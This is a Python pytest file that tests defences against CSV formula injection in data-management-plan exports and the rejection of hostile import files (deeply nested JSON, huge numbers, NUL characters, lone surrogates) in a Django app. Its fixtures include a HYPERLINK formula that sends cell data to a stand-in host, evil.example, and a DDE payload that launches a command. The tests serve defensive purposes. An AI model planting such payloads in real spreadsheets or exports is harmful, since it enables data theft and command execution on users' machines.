"""Issue 13 items 3 and 5: DMP CSV exports carry no spreadsheet formulas, and hostile
import files are refused with a message instead of a server error."""

import csv
import io
import json
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from accounts.models import Role
from core.spreadsheet import FORMULA_STARTS, csv_cell, csv_cell_text
from dmp.common_metadata import csv_headers
from dmp.exports import csv_parse, csv_rows
from dmp.models import DataManagementPlan, DmpRecord
from dmp.records_import import records_import
from tests.dmp.complete_records import CREATORS, complete_record
from tests.dmp.test_csv import _copy_project as copy_project
from tests.factories import MembershipFactory, ProjectFactory, make_program_officer

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
DDE = "+cmd|' /C calc'!A0"

# Field -> value as the researcher wrote it.
HOSTILE = {
    "title_ja": HYPERLINK,
    "title_en": DDE,
    "description_ja": "@SUM(A1:A9)",
    "description_en": "\t=1+1",
    "data_policy_cite_ja": "\r=1+1",
    "data_policy_cite_en": "'=already quoted by hand",
    "remarks_ja": "-2+3",
    "remarks_en": "-",  # a placeholder: inert, stays as written
    "repo_information_en": "-12.5",  # a plain number: inert, stays as written
}


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _hostile_project():
    project = ProjectFactory(funding_stream_code="JPMJM")
    creators = [dict(CREATORS[0], name_ja="=1+1", name_en="@evil")]
    complete_record(project, 1, creators=creators, **HOSTILE)
    return project


def _cell_is_safe(cell: str) -> bool:
    return not cell.startswith(FORMULA_STARTS) or cell in ("-", "-12.5")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+81 3 1234 5678", "'+81 3 1234 5678"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),  # a quote written by hand survives the round trip
        ("''@x", "'''@x"),
        ("'abc", "'abc"),
        ("-", "-"),
        ("-5", "-5"),
        ("+5", "+5"),
        ("-0.25", "-0.25"),
        ("'-5", "'-5"),
        ("03-1234-5678", "03-1234-5678"),
        ("", ""),
    ],
)
def test_a_cell_is_quoted_exactly_when_a_spreadsheet_would_run_it(value, written):
    assert csv_cell(value) == written
    assert csv_cell_text(written) == value


@pytest.mark.parametrize("language", ["ja", "en"])
def test_the_project_csv_export_carries_no_formula(client, language):
    project = _hostile_project()
    client.force_login(MembershipFactory(project=project, role=Role.COLLABORATOR).user)

    response = client.get(f"/projects/{project.pk}/dmp/?format=csti-csv-{language}")

    assert response.status_code == 200
    header, row = _rows(b"".join(response.streaming_content))
    assert all(_cell_is_safe(cell) for cell in row), row
    by_header = dict(zip(header, row, strict=True))
    title = csv_headers(language)[6]
    assert by_header[title] == ("'" + HYPERLINK if language == "ja" else "'" + DDE)
    if language == "ja":
        assert "'-2+3" in row
    else:  # the placeholder and the plain number are not quoted
        assert "-" in row
        assert "-12.5" in row


def test_the_program_officers_combined_csv_carries_no_formula(client):
    _hostile_project()
    client.force_login(make_program_officer())

    response = client.get("/programs/JST/JPMJM/export?format=csti-csv-ja")

    assert response.status_code == 200
    _header, row = _rows(b"".join(response.streaming_content))
    assert "'" + HYPERLINK in row
    assert all(_cell_is_safe(cell) for cell in row), row


@pytest.mark.parametrize("language", ["ja", "en"])
def test_quoted_cells_are_read_back_as_written(language):
    source = _hostile_project()
    source.japan_grant_number = ""  # unique: the copy cannot have the same one
    source.save()
    first = b"".join(csv_rows(DmpRecord.objects.filter(project=source), language))
    target = copy_project(source)
    pm = MembershipFactory(project=target, role=Role.PM).user

    (record,) = records_import(actor=pm, project=target, rows=csv_parse(first))

    suffix = f"_{language}"
    for field, value in HOSTILE.items():
        if field.endswith(suffix):
            assert getattr(record, field) == value, field
    assert b"".join(csv_rows(DmpRecord.objects.filter(project=target), language)) == first


# --- Hostile import files ------------------------------------------------------------------


@pytest.fixture
def pm_and_project():
    membership = MembershipFactory(role=Role.PM)
    complete_record(membership.project, 1)
    return membership.user, membership.project


def _csv_with_a_long_cell(project) -> bytes:
    text = b"".join(csv_rows(project.records.all(), "ja")).decode("utf-8-sig")
    return text.replace("データ1の説明", "x" * 200_000, 1).encode("utf-8-sig")


HOSTILE_FILES = {
    "long-csv-cell": ("csti-csv", _csv_with_a_long_cell, "131,072"),
    "deep-json": (
        "madmp-json",
        lambda project: b"[" * 100_000 + b"]" * 100_000,
        "nested",
    ),
    "long-json-integer": (
        "madmp-json",
        lambda project: b'{"dmp": {"n": ' + b"9" * 100_000 + b"}}",
        "4,300",
    ),
    "long-json-string": (
        "madmp-json",
        # In Kura's own items: a standard property's text is shortened instead.
        lambda project: _example_text(x_kura={"title_en": "x" * 3_000_000}).encode(),
        "at most 500 characters",
    ),
    "json-in-utf-16": (
        "madmp-json",
        lambda project: _example_text().encode("utf-16"),
        "The file is not UTF-8 text",
    ),
    "json-in-shift-jis": (
        "madmp-json",
        lambda project: _example_text(title="土壌データ").encode("shift_jis"),
        "The file is not UTF-8 text",
    ),
}


def _example_text(**dataset) -> str:
    """An official example (a dataset's properties changed), as JSON text."""
    document = json.loads(EXAMPLE.read_text(encoding="utf-8"))
    document["dmp"]["dataset"][0].update(dataset)
    return json.dumps(document, ensure_ascii=False)


@pytest.mark.parametrize("kind", HOSTILE_FILES)
def test_a_hostile_file_is_refused_on_the_import_page_and_changes_nothing(
    client, pm_and_project, kind
):
    pm, project = pm_and_project
    fmt, content, named = HOSTILE_FILES[kind]
    upload = SimpleUploadedFile("records.dat", content(project))
    before = list(project.records.values_list("pk", "title_ja", "description_ja"))
    client.force_login(pm)

    response = client.post(
        f"/projects/{project.pk}/dmp/import/",
        {"format": fmt, "file": upload},
        HTTP_ACCEPT_LANGUAGE="en",
    )

    assert response.status_code == 400
    assert named in response.content.decode()
    assert list(project.records.values_list("pk", "title_ja", "description_ja")) == before


def test_a_json_nested_deeper_than_a_madmp_can_be_is_refused(client, pm_and_project):
    pm, project = pm_and_project
    document = {"dmp": json.loads("[" * 500 + "]" * 500)}
    client.force_login(pm)

    response = client.post(
        f"/projects/{project.pk}/dmp/import/",
        {
            "format": "madmp-json",
            "file": SimpleUploadedFile("dmp.json", json.dumps(document).encode()),
        },
        HTTP_ACCEPT_LANGUAGE="en",
    )

    assert response.status_code == 400
    assert "nested more than 64 levels" in response.content.decode()


@pytest.mark.parametrize("dmp", [[], "text", 1, None])
def test_a_dmp_that_is_not_an_object_is_refused_with_the_schemas_message(
    client, pm_and_project, dmp
):
    pm, project = pm_and_project
    client.force_login(pm)

    response = client.post(
        f"/projects/{project.pk}/dmp/import/",
        {
            "format": "madmp-json",
            "file": SimpleUploadedFile("dmp.json", json.dumps({"dmp": dmp}).encode()),
        },
        HTTP_ACCEPT_LANGUAGE="en",
    )

    assert response.status_code == 400
    assert "is not of type" in response.content.decode()


# Valid JSON that json.loads reads but PostgreSQL's jsonb and text refuse, or a page cannot
# show: anywhere in the document (the review keeps all of it), refused with its path.
EXAMPLE = Path(__file__).resolve().parent / "madmp_examples" / "ex5-dataset-planned-host.json"
TOO_LARGE = "too large or not a number"


def _example_with(change) -> bytes:
    document = json.loads(EXAMPLE.read_text(encoding="utf-8"))
    change(document["dmp"])
    return json.dumps(document).replace('"<1e400>"', "1e400").encode()


UNSTORABLE = {
    "float-overflow": (
        lambda dmp: dmp.update(cost=[{"title": "Storage", "value": "<1e400>"}]),
        "dmp.cost[0].value",
        TOO_LARGE,
    ),
    "nan": (
        lambda dmp: dmp["dataset"][0].update(x_other={"share": float("nan")}),
        "dmp.dataset[0].x_other.share",
        TOO_LARGE,
    ),
    "infinity": (
        lambda dmp: dmp.update(x_other=[float("-inf")]),
        "dmp.x_other[0]",
        TOO_LARGE,
    ),
    "nul-in-a-plan-part": (
        lambda dmp: dmp.update(ethical_issues_description="Handled\u0000 by the board"),
        "dmp.ethical_issues_description",
        "NUL character",
    ),
    "nul-in-a-key": (
        lambda dmp: dmp["contact"].update({"note\u0000": "x"}),
        "dmp.contact.note\\u0000",
        "NUL character",
    ),
    "lone-surrogate": (
        lambda dmp: dmp["dataset"][0].update(title="Cool \ud800 data"),
        "dmp.dataset[0].title",
        "unpaired surrogate",
    ),
    "lone-surrogate-in-a-key": (
        lambda dmp: dmp.update({"x\udfff": 1}),
        "dmp.x\\udfff",
        "unpaired surrogate",
    ),
}


@pytest.mark.parametrize("kind", UNSTORABLE)
def test_a_madmp_value_kura_cannot_store_is_refused_with_its_path(client, pm_and_project, kind):
    pm, project = pm_and_project
    change, path, named = UNSTORABLE[kind]
    before = list(project.records.values_list("pk", "title_ja"))
    client.raise_request_exception = False
    client.force_login(pm)

    response = client.post(
        f"/projects/{project.pk}/dmp/import/",
        {"format": "madmp-json", "file": SimpleUploadedFile("dmp.json", _example_with(change))},
        HTTP_ACCEPT_LANGUAGE="en",
    )

    assert response.status_code == 400, response.status_code
    page = response.content.decode()
    assert f"<code>{path}</code>" in page
    assert named in page
    assert list(project.records.values_list("pk", "title_ja")) == before
    assert not DataManagementPlan.objects.filter(project=project).exists()
